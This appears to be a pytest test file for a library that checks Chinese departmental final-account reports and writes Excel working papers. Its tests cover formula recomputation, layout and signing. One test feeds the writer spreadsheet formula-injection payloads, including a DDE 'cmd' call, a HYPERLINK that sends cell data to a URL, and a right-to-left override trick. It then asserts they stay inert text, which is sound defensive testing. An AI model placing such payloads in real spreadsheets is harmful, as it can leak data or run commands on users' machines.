"""The working paper: what stands in its cells, and that a spreadsheet comes to the library's verdicts."""

from __future__ import annotations

import re
import subprocess
import zipfile
from collections import Counter
from dataclasses import replace
from datetime import datetime, timedelta, timezone
from pathlib import Path

import openpyxl
import pytest
from openpyxl.workbook import Workbook
from openpyxl.worksheet.worksheet import Worksheet

from final_accounts import __version__
from final_accounts.checking.checker import check
from final_accounts.figures import Figure, Verdict
from final_accounts.places import Place
from final_accounts.reading.reader import read_document
from final_accounts.recognising.recogniser import recognise
from final_accounts.reports import CheckedReport, Finding, Form, Statement
from final_accounts.showing.language import ENGLISH, speaking
from final_accounts.showing.messages import VERDICT_WORDS, moment_words
from final_accounts.showing.working_paper.cells import lines_of
from final_accounts.showing.working_paper.findings import FIRST_ROW
from final_accounts.showing.working_paper.operands import COLUMNS
from final_accounts.showing.working_paper.workbook import write_working_paper

CREATED = datetime(2026, 11, 2, 9, 30)
HOSTILE = (
    '=HYPERLINK("http://example.org/?"&A1,"点这里")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\u202e=cmd|' /C calc'!A0",
    "＝1＋1",
    "'=1+1",
    "=" + "长" * 10_000,
)


def paper(checked: CheckedReport, path: Path, name: str = "report.txt") -> Path:
    write_working_paper(checked, name, CREATED, path, ("两幅图片没有读取。",))
    return path


def read_text(text: str, folder: Path) -> CheckedReport:
    path = folder / "account.txt"
    path.write_text(text, encoding="utf-8")
    return check(recognise(read_document(path)))


def read_real(folder: Path) -> dict[str, CheckedReport]:
    sources = sorted(folder.glob("*.txt"))
    return {path.name[:3]: check(recognise(read_document(path))) for path in sources}


def rows(sheet: Worksheet) -> list[dict[str, object]]:
    """The rows of the sheet of checks by column."""
    found = sheet.iter_rows(min_row=FIRST_ROW + 1, max_col=len(COLUMNS), values_only=True)
    return [dict(zip(COLUMNS, row, strict=True)) for row in found if row[0] is not None]


def without_results(source: Path, target: Path) -> Path:
    """The same workbook with formulas only: whatever a formula gives must then be computed."""
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w") as new:
        for name in old.namelist():
            content = old.read(name)
            if name.startswith("xl/worksheets/sheet"):
                content = re.sub(rb"(</f>)<v>[^<]*</v>", rb"\1", content)
            new.writestr(name, content)
    return target


AVERAGES = """某某县示例局2024年度部门决算
第二部分 2024年度部门决算情况说明
一、“三公”经费财政拨款支出决算情况说明
公务用车购置费0万元。公务用车运行维护费支出17.90万元。公务接待费支出3.90万元，其中国内公务接待支出3.60万元。
公务用车购置0辆，公务用车保有量3辆。国内公务接待50批次400人次，其中国内外事接待2批次10人次。
人均接待费92.31元，车均购置费0万元，车均维护费5.97元。全年车均运行维护费支出6万元。
"""


def cell_of(sheet: Worksheet, column: str, **wanted: object) -> tuple[int, int]:
    """Row and column, from 1, of the cell under a heading in the first row with the wanted cells."""
    heads = {cell.value: cell.column for cell in sheet[FIRST_ROW]}
    for row in range(FIRST_ROW + 1, sheet.max_row + 1):
        if all(sheet.cell(row, heads[name]).value == value for name, value in wanted.items()):
            return row, heads[column]
    raise AssertionError(f"no row with {wanted} in {sheet.title}")


@pytest.fixture(scope="module")
def real(real_reports: Path) -> dict[str, CheckedReport]:
    return read_real(real_reports)


@pytest.fixture(scope="module")
def written(real: dict[str, CheckedReport], tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """The papers of the real reports; `changed` is the first with two numbers changed by hand."""
    folder = tmp_path_factory.mktemp("written")
    papers = {key: paper(checked, folder / f"{key}.xlsx") for key, checked in real.items()}
    book = openpyxl.load_workbook(papers["000"])
    claims = book["文字陈述"]
    at = cell_of(claims, "数值", 事项="项目支出", 角色="占比")
    assert claims.cell(*at).value == 64.17
    claims.cell(*at).value = 64.18
    heads = {cell.value: cell.column for cell in claims[FIRST_ROW]}
    left_out = [row for row in claims.iter_rows(min_row=FIRST_ROW + 1) if "可补填" in str(row[4].value)]
    first = [row[heads["数值"] - 1] for row in left_out if row[0].value == left_out[0][0].value]
    assert [cell.value for cell in first] == [None] * len(first)
    for cell in first:
        cell.value = 100
    for name, said in BUDGETS.items():
        papers[name] = paper(read_text(TOGETHER.format(said=said), folder), folder / f"{name}.xlsx")
    papers["averages"] = paper(read_text(AVERAGES, folder), folder / "averages.xlsx")
    papers["changed"] = folder / "changed.xlsx"
    book.save(papers["changed"])
    return papers


@pytest.fixture(scope="module")
def recalculated(
    written: dict[str, Path], soffice: str, tmp_path_factory: pytest.TempPathFactory
) -> dict[str, Workbook]:
    """The papers as LibreOffice computes them from nothing but printed figures and formulas."""
    folder = tmp_path_factory.mktemp("recalculated")
    (folder / "in").mkdir()
    sources = [without_results(path, folder / "in" / path.name) for path in written.values()]
    profile = f"-env:UserInstallation={(folder / 'profile').as_uri()}"
    command = [soffice, profile, "--headless", "--convert-to", "xlsx", "--outdir", str(folder / "out")]
    subprocess.run([*command, *map(str, sources)], check=True, capture_output=True, timeout=300)
    found = {key: folder / "out" / path.name for key, path in written.items()}
    return {key: openpyxl.load_workbook(path, data_only=True) for key, path in found.items()}


REAL = ("000", "001", "002", "003", "004")


@pytest.mark.parametrize("key", REAL)
def test_every_verdict_by_formula_is_ours(recalculated: dict[str, Workbook], key: str) -> None:
    checks = rows(recalculated[key]["核对"])
    assert len(checks) > 80
    unlike = [c for c in checks if c["verdict"] != c["own_verdict"] and c["verdict"] != "见说明"]
    assert unlike == []
    assert {c["agreement"] for c in checks} <= {"一致", "见说明"}
    assert sum(c["verdict"] == "见说明" for c in checks) <= 2


@pytest.mark.parametrize("key", REAL)
def test_stored_results_are_what_the_formulas_give(
    written: dict[str, Path], recalculated: dict[str, Workbook], key: str
) -> None:
    stored = openpyxl.load_workbook(written[key], data_only=True)
    formulas = openpyxl.load_workbook(written[key])
    compared = 0
    for sheet in formulas:
        for cell in (cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"):
            kept = stored[sheet.title][cell.coordinate].value
            fresh = recalculated[key][sheet.title][cell.coordinate].value
            if isinstance(kept, int | float) and isinstance(fresh, int | float):
                assert fresh == pytest.approx(kept, rel=1e-9, abs=1e-9), (sheet.title, cell.coordinate)
            else:
                assert (fresh or "") == (kept or ""), (sheet.title, cell.coordinate, cell.value)
            compared += 1
    assert compared > 900


@pytest.mark.parametrize("key", REAL)
def test_the_library_finds_the_same_as_the_paper_counts(
    real: dict[str, CheckedReport], recalculated: dict[str, Workbook], key: str
) -> None:
    said = {check_row["rule"] for check_row in rows(recalculated[key]["核对"])}
    texts = {row[6] for row in recalculated[key]["其他核对"].iter_rows(min_row=4, values_only=True)}
    assert {finding.rule for finding in real[key].findings} <= said | texts
    cover = recalculated[key]["说明"]
    counts = {row[0]: row[1] for row in cover.iter_rows(max_col=2, values_only=True)}
    verdicts = Counter(c["verdict"] for c in rows(recalculated[key]["核对"]))
    assert counts["不相符"] == verdicts["不相符"]
    assert counts["合计"] == sum(verdicts.values())
    assert counts["两者不一致"] == 0


def test_averages_are_recomputed_by_formula(recalculated: dict[str, Workbook]) -> None:
    checks = [c for c in rows(recalculated["averages"]["核对"]) if c["rule"] == "cross.average"]
    assert [(c["what"], c["stated"], c["verdict"], c["own_verdict"]) for c in checks] == [
        ("人均接待费的均值", 92.31, "相符", "相符"),
        ("车均购置费的均值", 0, "相符", "相符"),
        ("车均维护费的均值", 5.97, "不相符", "不相符"),
        ("车均运行维护费支出的均值", 6, "相符", "相符"),
    ]
    given = [c["recomputed"] for c in checks]
    assert given == [pytest.approx(36000 / 390), None, pytest.approx(179000 / 3), pytest.approx(17.9 / 3)]


BUDGETS = {
    "completion": "决算7.00万元，完成预算的95.00%",
    "budget": "预算6.50万元，支出决算7.00万元，完成预算的107.69%",
    "larger": "预算12.00万元，支出决算7.00万元，完成预算的58.33%",
}
TOGETHER = """某县水利局
2024年度部门决算

第二部分 2024年度部门决算情况说明

一、收入支出决算总体情况说明
2024年度收入、支出总计均为300.00万元。
二、支出决算情况说明
本年支出合计280.00万元。本年支出中，基本支出占67.29%，项目支出占35.71%。
三、财政拨款“三公”经费支出决算情况说明
“三公”经费支出{said}。其中：因公出国（境）费支出决算1.00万元，完成预算的100%；公务用车购置及运行维护费决算4.00万元，完成预算的88.89%；\
公务接待费决算2.00万元，完成预算的66.67%。
"""


@pytest.mark.parametrize(
    ("name", "printed", "recomputed"),
    [("completion", 95.0, 82.355), ("budget", 6.5, 8.4998), ("larger", 12.0, 8.4998)],
)
def test_budgets_that_completions_imply_are_added_up_by_formula(
    recalculated: dict[str, Workbook], name: str, printed: float, recomputed: float
) -> None:
    (row,) = (row for row in rows(recalculated[name]["核对"]) if row["rule"] == "completion.parts")
    assert row["stated"] == printed
    assert row["recomputed"] == pytest.approx(recomputed, rel=1e-4)
    assert (row["verdict"], row["own_verdict"]) == ("不相符", "不相符")


def test_shares_of_one_whole_are_added_up_by_formula(recalculated: dict[str, Workbook]) -> None:
    (row,) = (row for row in rows(recalculated["budget"]["核对"]) if row["rule"] == "share.together")
    assert (row["stated"], row["recomputed"], row["difference"]) == (103, 100, 3)
    assert (row["stated_low"], row["verdict"], row["agreement"]) == (pytest.approx(102.99), "不相符", "一致")


def test_a_changed_number_turns_its_check(recalculated: dict[str, Workbook]) -> None:
    def verdict(key: str) -> object:
        checks = rows(recalculated[key]["核对"])
        return next(c["verdict"] for c in checks if c["what"] == "项目支出占本年支出合计的比重")

    assert verdict("000") == "截位未进位"
    assert verdict("changed") == "相符"


def test_what_the_report_left_out_can_be_filled_in(recalculated: dict[str, Workbook]) -> None:
    before = Counter(c["verdict"] for c in rows(recalculated["000"]["核对"]))
    after = Counter(c["verdict"] for c in rows(recalculated["changed"]["核对"]))
    assert before["无从核对"] - after["无从核对"] == 1


TEXT = """某县水利局
2024年度部门决算

第二部分 2024年度部门决算情况说明

一、收入支出决算总体情况说明
2024年度收入总计933.26万元。与2023年度相比，收入总计增加83.52万元，增长9.82%。
二、支出决算情况说明
2024年度本年支出合计933.26万元，其中：基本支出334.31万元，占35.82%；项目支出598.59万元，占64.18%。
"""


def test_a_check_shows_both_ranges_and_its_verdict(tmp_path: Path) -> None:
    path = paper(read_text(TEXT, tmp_path), tmp_path / "paper.xlsx")
    values = rows(openpyxl.load_workbook(path, data_only=True)["核对"])
    formulas = rows(openpyxl.load_workbook(path)["核对"])
    growth = next(n for n, c in enumerate(values) if c["rule"] == "change.rate")
    check_row = values[growth]
    assert check_row["stated"] == 9.82
    assert check_row["recomputed"] == pytest.approx(8352 / 849.74)
    assert check_row["low"] == pytest.approx(8351.5 / 849.75)
    assert check_row["high"] == pytest.approx(8352.5 / 849.73)
    assert (check_row["stated_low"], check_row["stated_high"]) == (9.815, 9.825)
    assert (check_row["cut_low"], check_row["cut_high"]) == (9.82, 9.83)
    assert (check_row["verdict"], check_row["own_verdict"]) == ("截位未进位", "截位未进位")
    total = next(n for n, c in enumerate(values) if c["rule"] == "sum.parts")
    assert values[total]["recomputed"] == pytest.approx(932.9)
    assert values[total]["difference"] == pytest.approx(0.36)
    assert values[total]["high"] == pytest.approx(932.91)
    assert values[total]["verdict"] == "不相符"
    sheet = openpyxl.load_workbook(path)["文字陈述"]
    basic = cell_of(sheet, "数值", 事项="基本支出", 角色="数额")[0]
    projects = cell_of(sheet, "数值", 事项="项目支出", 角色="数额")[0]
    assert formulas[total]["recomputed"] == f"='文字陈述'!$G${basic}+'文字陈述'!$G${projects}"


def test_a_finding_leads_to_its_check_and_back(tmp_path: Path) -> None:
    checked = read_text(TEXT, tmp_path)
    book = openpyxl.load_workbook(paper(checked, tmp_path / "paper.xlsx"))
    findings, checks = book["问题清单"], book["核对"]
    for number, finding in enumerate(checked.contradictions, start=1):
        link = findings.cell(FIRST_ROW + number, 13).hyperlink
        if link is None:
            continue
        row = int(link.location.split("!A")[1])
        assert checks.cell(row, 1 + COLUMNS.index("rule")).value == finding.rule
        back = checks.cell(row, 1 + COLUMNS.index("finding")).hyperlink
        assert back.location == f"'问题清单'!A{FIRST_ROW + number}"
    assert sum(findings.cell(row, 13).hyperlink is not None for row in range(4, findings.max_row + 1)) >= 2


def test_a_form_as_read(checked: CheckedReport, tmp_path: Path) -> None:
    book = openpyxl.load_workbook(paper(checked, tmp_path / "paper.xlsx"))
    sheet = book["表1支出决算表"]
    assert sheet["A2"].value == "单位：万元（表头印“元”，按表内数字应为万元）"
    heads = [cell.value for cell in sheet[5]][:7]
    assert heads == [
        "科目编码", "项目", "行次", "本年支出合计\n（万元）", "基本支出\n（万元）", "项目支出\n（万元）",
        "出处",
    ]  # fmt: skip
    printed = [[cell.value for cell in row[:7]] for row in sheet["A6:G8"]]
    assert printed == [
        [None, "合计", "1", 933.26, 334.31, 598.59, "第9页（全文第1张表）第2行"],
        ["2080505", "<script>alert(1)</script>=SUM(A1)", "2", 20.42, 20.42, "—", "第9页（全文第1张表）第3行"],
        ["2210201", "住房公积金", "3", 16, None, 0, "第9页（全文第1张表）第4行"],
    ]
    assert sheet["A7"].data_type == "s"
    assert (sheet["D6"].number_format, sheet["D8"].number_format) == ("#,##0.00", "#,##0")
    assert sheet["F6"].fill.start_color.rgb == "FFF9D5DA"
    assert "应" in sheet["F6"].comment.text or "不等于" in sheet["F6"].comment.text
    assert [cell.value for cell in sheet[6]][8:11] == [2, 2, 2]


def test_print_set_up_and_frozen_heads(checked: CheckedReport, tmp_path: Path) -> None:
    book = openpyxl.load_workbook(paper(checked, tmp_path / "paper.xlsx"))
    assert book.sheetnames == ["说明", "问题清单", "核对", "其他核对", "文字陈述", "表1支出决算表"]
    for sheet in book:
        assert sheet.page_setup.orientation == "landscape"
        assert int(sheet.page_setup.paperSize) == 9
        assert (sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight) in ((1, 0), (None, 0))
        assert sheet.print_area
    for name in book.sheetnames[1:]:
        assert book[name].freeze_panes is not None
        assert book[name].auto_filter.ref is not None
        assert book[name].print_title_rows is not None


def test_the_cover_says_whose_account_and_who_signs(checked: CheckedReport, tmp_path: Path) -> None:
    sheet = openpyxl.load_workbook(paper(checked, tmp_path / "paper.xlsx"))["说明"]
    told = {row[0]: row[1] for row in sheet.iter_rows(max_col=2, values_only=True) if row[0]}
    assert told["部门"] == "某市<b>医疗保障局</b>"
    assert told["年度"] == "2024年"
    assert told["源文件"] == "report.txt"
    assert told["SHA-256"] == "ab" * 32
    assert told["程序"] == f"final_accounts {__version__}"
    assert told["生成时间"] == "2026-11-02 09:30"
    assert {"编制人", "复核人", "复核结论"} <= set(told)
    texts = [row[1] for row in sheet.iter_rows(max_col=2, values_only=True)]
    assert "两幅图片没有读取。" in texts


def test_those_who_sign_do_so_beside_the_result_that_they_sign(
    checked: CheckedReport, tmp_path: Path
) -> None:
    sheet = openpyxl.load_workbook(paper(checked, tmp_path / "paper.xlsx"))["说明"]
    first = [row[0] for row in sheet.iter_rows(max_col=1, values_only=True) if row[0]]
    assert first.index("两者不一致") < first.index("编制人") < first.index("复核结论") < first.index("各表")


def test_a_moment_is_told_to_the_minute_however_finely_it_is_known() -> None:
    moment = datetime(2026, 11, 2, 9, 30, 59, 595165, timezone(timedelta(hours=8)))
    assert moment_words(moment) == "2026-11-02 09:30（UTC+08:00）"


def test_where_a_row_of_a_form_stands_is_not_cut_off(checked: CheckedReport, tmp_path: Path) -> None:
    form = checked.report.forms[0]
    places = [Place(page=13, table=6, row=3 + number) for number in range(len(form.rows))]
    rows = tuple(replace(row, place=place) for row, place in zip(form.rows, places, strict=True))
    report = replace(checked.report, forms=(replace(form, rows=rows),))
    book = openpyxl.load_workbook(paper(replace(checked, report=report), tmp_path / "paper.xlsx"))
    sheet = book["表1支出决算表"]
    cells = [cell for row in sheet.iter_rows() for cell in row if str(cell.value).startswith("第13页")]
    assert [cell.value for cell in cells] == [place.describe() for place in places]
    width = sheet.column_dimensions[cells[0].column_letter].width
    assert {lines_of(str(cell.value), width) for cell in cells} == {1}


def test_same_report_same_bytes_and_no_machine_in_them(checked: CheckedReport, tmp_path: Path) -> None:
    first, second = paper(checked, tmp_path / "a.xlsx"), paper(checked, tmp_path / "b.xlsx")
    assert first.read_bytes() == second.read_bytes()
    properties = openpyxl.load_workbook(first).properties
    assert properties.creator == f"final_accounts {__version__}"
    assert properties.lastModifiedBy == f"final_accounts {__version__}"
    assert properties.created == CREATED


def test_it_is_in_chinese_whoever_asks(checked: CheckedReport, tmp_path: Path) -> None:
    chinese = paper(checked, tmp_path / "zh.xlsx")
    with speaking(ENGLISH):
        asked = paper(checked, tmp_path / "en.xlsx")
        assert VERDICT_WORDS[Verdict.CONSISTENT] != "相符"
    assert asked.read_bytes() == chinese.read_bytes()


def hostile(checked: CheckedReport, text: str) -> CheckedReport:
    """The report with one text wherever a report's own words go."""

    def statement(old: Statement) -> Statement:
        return replace(old, section=replace(old.section, title=text), text=text)

    def form(old: Form) -> Form:
        form_rows = tuple(replace(row, label=text, code=text, line=text) for row in old.rows)
        return replace(
            old, title=text, printed_number=text, printed_unit=text, bureau=text, notes=(text,),
            columns=tuple(f"{text}{n}" for n, _ in enumerate(old.columns)), rows=form_rows,
        )  # fmt: skip

    def finding(old: Finding) -> Finding:
        return replace(
            old, message=text, explanation=text, section=text, quote=text, stated=text, recomputed=text,
            calculation=text,
        )  # fmt: skip

    report = checked.report
    claims = tuple(
        replace(claim, subject=text, statement=statement(claim.statement)) for claim in report.claims
    )
    forms = (*(form(old) for old in report.forms), *(form(old) for old in report.forms))
    changed = replace(report, bureau=text, claims=claims, forms=forms)
    return replace(checked, report=changed, findings=tuple(map(finding, checked.findings)))


FUNCTIONS = {"IF", "AND", "OR", "NOT", "COUNT", "COUNTIF", "SUM", "ROUND", "ABS", "MAX", "SIGN", "IFERROR"}


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_report_text_stays_text(checked: CheckedReport, tmp_path: Path, text: str) -> None:
    path = paper(hostile(checked, text), tmp_path / "paper.xlsx", name=text[:100])
    with zipfile.ZipFile(path) as packed:
        names = packed.namelist()
        links = b"".join(packed.read(name) for name in names if name.endswith(".rels"))
        strings = packed.read("xl/sharedStrings.xml").decode()
    assert not any("external" in name.lower() or "vba" in name.lower() for name in names)
    assert b"External" not in links
    assert not set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f") & set(strings)
    book = openpyxl.load_workbook(path)
    assert len({name.lower() for name in book.sheetnames}) == len(book.sheetnames)
    assert all(len(name) <= 31 and not set(name) & set("[]:*?/\\'") for name in book.sheetnames)
    texts = formulas = 0
    for sheet in book:
        for cell in (cell for row in sheet.iter_rows() for cell in row if cell.value is not None):
            if cell.data_type == "f":
                formulas += 1
                assert set(re.findall(r"([A-Z]+)\(", cell.value)) <= FUNCTIONS, cell.value
                assert "HYPERLINK" not in cell.value
                assert "|" not in cell.value
            elif isinstance(cell.value, str):
                texts += 1
                assert cell.data_type == "s"
                assert len(cell.value) <= 2_000
                if cell.value[:1] in "=+-@＝＋－＠'":
                    assert cell.quotePrefix or cell.value == "—", cell.coordinate
            if cell.hyperlink is not None:
                assert cell.hyperlink.target is None
                assert re.fullmatch(r"'[^']+'!A\d+", cell.hyperlink.location)
    assert texts > 100
    assert formulas > 20


def test_numbers_that_a_spreadsheet_cannot_hold_stay_text(checked: CheckedReport, tmp_path: Path) -> None:
    long = "9" * 400

    def lengthened(figure: Figure | None) -> Figure | None:
        if figure is None or figure.text != "598.59":
            return figure
        return replace(figure, text=long, value=figure.value.scaleb(400))

    form = checked.report.forms[0]
    long_rows = tuple(replace(row, values=tuple(map(lengthened, row.values))) for row in form.rows)
    report = replace(checked.report, forms=(replace(form, rows=long_rows),))
    path = paper(replace(checked, report=report), tmp_path / "paper.xlsx")
    book = openpyxl.load_workbook(path)
    assert book["表1支出决算表"]["F6"].data_type == "s"
    unsayable = [
        c for c in rows(book["核对"]) if c["section"] == "支出决算表" and c["verdict"] == '="见说明"'
    ]
    assert len(unsayable) >= 1


def test_words_that_rest_on_no_number_have_no_formula(tmp_path: Path) -> None:
    text = (
        "某某县档案局2024年度部门决算\n\n一、一般公共预算财政拨款支出决算具体情况\n\n"
        "1.购房补贴（项）。年初预算未安排，支出决算为100.00万元，决算数大于年初预算数，原因是追加。\n\n"
        "2.住房公积金（项）。支出决算为90.00万元，决算数等于预算数。\n"
    )
    checked = read_text(text, tmp_path)
    assert any(finding.rule == "completion.direction" for finding in checked.findings)
    checks = rows(openpyxl.load_workbook(paper(checked, tmp_path / "paper.xlsx"))["核对"])
    (told,) = [check for check in checks if check["rule"] == "completion.direction"]
    assert told["verdict"] == '="见说明"'
